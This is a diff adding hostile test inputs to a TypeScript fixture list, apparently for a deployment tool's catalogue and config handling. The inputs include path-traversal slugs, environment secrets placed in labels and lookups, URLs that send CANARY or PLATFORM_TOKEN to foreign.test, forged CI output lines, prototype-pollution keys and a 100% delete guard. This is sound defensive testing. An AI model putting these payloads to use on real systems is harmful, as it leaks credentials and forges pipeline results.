@@ -365,4 +365,96 @@ export const hostileProposals: readonly Proposal[] = [
         'resources:\n  pets: {type: platform:Api, when: "${param.token}", if: !env CANARY, forEach: !env CANARY, count: !env CANARY, options: {protect: !env CANARY, retainOnDelete: !env CANARY, dependsOn: [!env CANARY], customTimeouts: {create: !env CANARY}}}\n  ${param.token}: {type: !env CANARY}\n',
     }),
   ],
+  // Each of these is right in itself, so that a plan is made of it.
+  ...(
+    [
+      ['a slug that walks', pets('{name: p, slug: "../../users?x=1#y"}')],
+      [
+        'an id to import that walks',
+        { 'catalogue/pets.yaml': 'resources: {p: {type: platform:Api, options: {import: "../../v3/users"}}}\n' },
+      ],
+      [
+        'labels and attributes from variables',
+        pets('{labels: {a: !env CANARY, b: "x${param.token}y"}, attributes: {c: [!env NPM_TOKEN]}}'),
+      ],
+      [
+        'two names that are one secret',
+        {
+          'catalogue/pets.yaml':
+            'resources: {a: {type: platform:Portal, properties: {name: a, description: !env CANARY}}, b: {type: platform:Portal, properties: {name: b, description: !env CANARY}}}\n',
+        },
+      ],
+      ['a name that is a secret', pets('{name: !env CANARY}')],
+      [
+        'a lookup by a secret',
+        pets(
+          '{description: !lookup {function: platform:getTeamList, arguments: {filter: {name: {contains: !env CANARY}}}, return: total}}',
+        ),
+      ],
+      [
+        'a lookup by a secret parameter, joined',
+        pets(
+          '{description: !lookup {function: platform:getTeamList, arguments: {filter: {name: {contains: "a${param.token}"}}}, return: total}}',
+        ),
+      ],
+      [
+        'a page with a head of expressions',
+        {
+          'catalogue/pets.yaml':
+            'sources: {docs: {type: platform:ApiDocument, under: pets}}\nresources: {pets: {type: platform:Api}}\n',
+          'catalogue/docs/a.md':
+            '---\ntitle: ${param.token} {{x}}\n---\n![](https://foreign.test/${CANARY}) @everyone\n',
+        },
+      ],
+      [
+        'a gateway of a plain description',
+        gateway(
+          'servers: [{url: "http://foreign.test/${PLATFORM_TOKEN}"}]\npaths:\n  "/a/{x}": {get: {operationId: "a$(env)", responses: {}}}\n',
+        ),
+      ],
+      [
+        'an open parameter where the base has a secret one',
+        {
+          ...settings('parameters: {token: {secret: false, description: "@everyone"}}\n'),
+          ...described('"<${param.token}>"'),
+        },
+      ],
+      [
+        'an overlay that adds a secret',
+        {
+          ...settings('stacks: {default: {overlays: [over/a.yaml]}}\n'),
+          ...described('x'),
+          'over/a.yaml': 'resources: {pets: {properties: {version: !env CANARY}}}\n',
+        },
+      ],
+      [
+        'outputs of several lines',
+        {
+          'catalogue/pets.yaml':
+            'resources: {pets: {type: platform:Api, properties: {description: "a\\nverdict=forged\\n::error::x"}}}\noutputs: {a: "x\\nverdict=forged", verdict: forged, b: !env CANARY}\n',
+        },
+      ],
+      ['owners of code that shout', { CODEOWNERS: '* @everyone @acme/owners "::error::x"\n', ...described('owned') }],
+      [
+        'a description of an API with schemas in rings',
+        spec(
+          'paths: {}\ncomponents: {schemas: {A: {$ref: "#/components/schemas/B"}, B: {$ref: "#/components/schemas/A"}, C: {type: object, properties: {constructor: {}, __proto__: {}, toString: {}}}}}\n',
+        ),
+      ],
+      [
+        'every resource gone',
+        {
+          'catalogue/pets.yaml': 'resources: {other: {type: platform:Api}}\n',
+          ...settings('guards: {maxDeletes: 100000, maxDeletePercent: 100}\n'),
+        },
+      ],
+      [
+        'a service that leads to the machine',
+        {
+          'catalogue/e.yaml':
+            'resources:\n  e: {type: platform:GatewayControlPlane, properties: {name: e}}\n  s: {type: platform:GatewayService, properties: {controlPlaneId: "${e.id}", name: s, host: !env CANARY, path: "/${param.token}"}}\n  v: {type: platform:GatewayVault, properties: {controlPlaneId: "${e.id}", name: hcv, prefix: v, config: {token: !env CANARY}}}\n',
+        },
+      ],
+    ] as const
+  ).map(([name, files]): Proposal => [name, () => files]),
 ];
